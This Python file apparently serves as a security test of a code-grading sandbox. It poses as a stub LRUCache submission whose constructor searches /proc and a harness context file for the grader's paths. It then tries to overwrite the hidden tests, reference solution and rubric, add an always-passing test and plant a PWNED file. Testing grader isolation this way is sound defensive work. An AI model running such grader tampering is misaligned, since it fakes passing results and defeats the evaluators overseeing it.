"""Attack: write to the original submission and to the challenge folder (hidden tests, reference, rubric).

Targets come from two places: the command lines of every process on the machine
(the grader's `mlgrader grade SUBMISSION --challenges DIR`) and the paths the
test harness wrote into attack_context.json (a layout an attacker could know).
Folders found through another process's working directory are only checked for
writability, never written: they may be a real checkout.
"""

import json
import os
from pathlib import Path

HERE = Path(__file__).resolve().parent
CONTEXT = json.loads((HERE / "attack_context.json").read_text())
NOTE = "\n# tampered by the candidate\n"
PASSING = "def test_everything():\n    assert True\n"


def _from_command_lines():
    submissions, challenge_dirs = set(), set()
    for entry in _proc_entries():
        if not entry.isdigit():
            continue
        try:
            argv = Path("/proc", entry, "cmdline").read_bytes().decode().split("\0")
        except (OSError, UnicodeDecodeError):
            continue
        for i, arg in enumerate(argv):
            path = Path(arg)
            if not path.is_absolute() or HERE == path or HERE in path.parents:
                continue
            if (path / "lru_cache.py").is_file():
                submissions.add(path)
            if arg and i > 0 and argv[i - 1] == "--challenges":
                challenge_dirs.add(path)
    return submissions, challenge_dirs


def _seen_in_working_dirs():
    seen = []
    for entry in _proc_entries():
        if entry.isdigit():
            try:
                cwd = Path(os.readlink(f"/proc/{entry}/cwd"))
            except OSError:
                continue
            folder = cwd / "challenges" / "lru-cache"
            if folder.is_dir():
                seen.append(f"{folder} writable={os.access(folder, os.W_OK)}")
    return sorted(set(seen))


def _attempt(action, path, results):
    try:
        action(path)
        results["wrote"].append(str(path))
    except OSError as exc:
        results["refused"].append(f"{path}: {exc.strerror}")


def _append(path):
    with open(path, "a") as handle:
        handle.write(NOTE)


def _tamper():
    results = {"wrote": [], "refused": []}
    submissions, challenge_dirs = _from_command_lines()
    targets = CONTEXT["targets"]
    submissions.add(Path(targets["submission"]))
    challenge_dirs.add(Path(targets["challenges"]))
    for sub in submissions:
        _attempt(_append, sub / "lru_cache.py", results)
        _attempt(lambda p: p.write_text("pwned\n"), sub / "PWNED.txt", results)
    for root in challenge_dirs:
        challenge = root / "lru-cache"
        for test in sorted((challenge / "tests" / "hidden").glob("test_*.py")):
            _attempt(_append, test, results)
        _attempt(
            lambda p: p.write_text(PASSING), challenge / "tests" / "hidden" / "test_zz.py", results
        )
        _attempt(
            lambda p: p.write_text("class LRUCache:\n    pass\n"),
            challenge / "reference" / "lru_cache.py",
            results,
        )
        _attempt(_append, challenge / "challenge.toml", results)
        _attempt(_append, root.parent / "rubric.toml", results)
    results["seen_via_cwd"] = _seen_in_working_dirs()
    return results


class LRUCache:
    """The stub, except constructing it tampers with the originals."""

    def __init__(self, capacity):
        results = _tamper()
        summary = {"wrote": results["wrote"][:6], "refused": len(results["refused"])}
        summary["seen_via_cwd"] = results["seen_via_cwd"]
        raise NotImplementedError("TAMPER" + json.dumps(summary) + "END")

    @property
    def capacity(self):
        raise NotImplementedError

    def get(self, key, default=None):
        raise NotImplementedError

    def put(self, key, value):
        raise NotImplementedError

    def __len__(self):
        raise NotImplementedError

    def __contains__(self, key):
        raise NotImplementedError


def _proc_entries():
    """Every /proc entry the sandbox lets us list (none, if /proc is closed to us)."""
    try:
        return os.listdir("/proc")
    except OSError:
        return []
